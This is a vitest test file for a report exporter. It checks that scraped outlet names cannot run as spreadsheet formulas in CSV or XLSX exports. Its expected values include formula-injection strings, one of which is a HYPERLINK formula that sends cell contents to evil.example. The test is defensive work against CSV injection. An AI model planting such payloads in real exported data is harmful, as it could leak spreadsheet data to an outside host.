import { readFileSync } from 'node:fs';
import { join } from 'node:path';

import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { exportAggregates } from '../../src/report/export-aggregates.js';
import { aggregatesWorkbook } from '../../src/report/export-aggregates-xlsx.js';
import { openSqliteStore, type SqliteStore } from '../../src/store/sqlite/sqlite-store.js';
import { makeItem } from '../store/make-post.js';
import { makeProject } from './make-project.js';

/**
 * Outlet names as scraped feeds gave them, each meant to run as a formula when opened in Excel.
 * A handle-shaped one ("@SUM(1+1)") no longer reaches the export: the privacy gate takes handles
 * out of outlet names ("[HANDLE](1+1)"), so the "@" case is one that is no handle.
 */
const OUTLETS = readFileSync(join(import.meta.dirname, '..', 'fixtures', 'report', 'outlet-names-read-as-formulas.txt'), 'utf8')
  .split('\n')
  .filter((line) => line !== '');

let store: SqliteStore;
let csv: string;

beforeAll(() => {
  store = openSqliteStore(':memory:', { timezone: 'Asia/Almaty' });
  // Twelve articles an outlet, so that every outlet is shown under its own name.
  store.savePosts(OUTLETS.flatMap((outlet, outletIndex) => Array.from({ length: 12 }, (_, index) => makeItem(
    {
      nativeId: `article-${outletIndex}-${index}`, platform: 'news', title: `Автобусы ${index}`,
      text: `Новые автобусы вышли на линию, партия ${index}`, outlet,
      url: `https://news.example/${outletIndex}/${index}`, publishedAt: '2024-11-15T04:00:00Z',
    },
    { sentiment: 'neutral', issues: ['transport'] },
  ))));
  csv = exportAggregates({ store, project: makeProject('en'), from: '2024-11-11', to: '2024-11-17' });
});

afterAll(() => store.close());

/** The cells a spreadsheet makes of one CSV line split at `separator`, honouring quotes. */
function spreadsheetCells(line: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < line.length; index++) {
    const character = line[index]!;
    if (quoted && character === '"' && line[index + 1] === '"') {
      cell += '"';
      index++;
    } else if (character === '"') {
      quoted = !quoted;
    } else if (character === separator && !quoted) {
      cells.push(cell);
      cell = '';
    } else {
      cell += character;
    }
  }
  return [...cells, cell];
}

describe('the aggregate export opened in a spreadsheet', () => {
  const outletLines = () => csv.split('\n').filter((line) => line.startsWith('2024-11-11,2024-11-17,outlet,'));

  it('shows every outlet under its own name', () => {
    expect(outletLines()).toHaveLength(OUTLETS.length);
  });

  // Excel reads a CSV at ',' in English locales and at ';' in Russian and Kazakh ones; a tab
  // separates cells pasted from the file.
  it.each([',', ';', '\t'])('has no cell that starts a formula when split at %j', (separator) => {
    const formulaCells = csv.split('\n')
      .flatMap((line) => spreadsheetCells(line, separator))
      .filter((cell) => /^[\s\u3000]*[=+\-@＝＋－＠]/u.test(cell));
    expect(formulaCells).toEqual([]);
  });

  it('keeps the names readable behind one apostrophe', () => {
    expect(outletLines().map((line) => spreadsheetCells(line, ',')[3]).sort()).toEqual([
      "' =2+2", "'-4+3", "'@(1+1)", "'＝3+3", 'Ak;=1+1', 'Tab\t=5+5',
      'Tengri;=HYPERLINK("http://evil.example/?"&A1,"click")', 'Новости\t+7', 'Норм медиа',
    ]);
  });

  it('shows the names as written in the workbook, where text cells are never formulas', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await aggregatesWorkbook(csv)) as unknown as ArrayBuffer);
    // The value column, below its header.
    const cells = workbook.getWorksheet('aggregates')!.getColumn(4).values.slice(2);

    expect(cells.filter((cell) => typeof cell !== 'string')).toEqual([]);
    expect(OUTLETS.filter((outlet) => !cells.includes(outlet))).toEqual([]);
  });
});
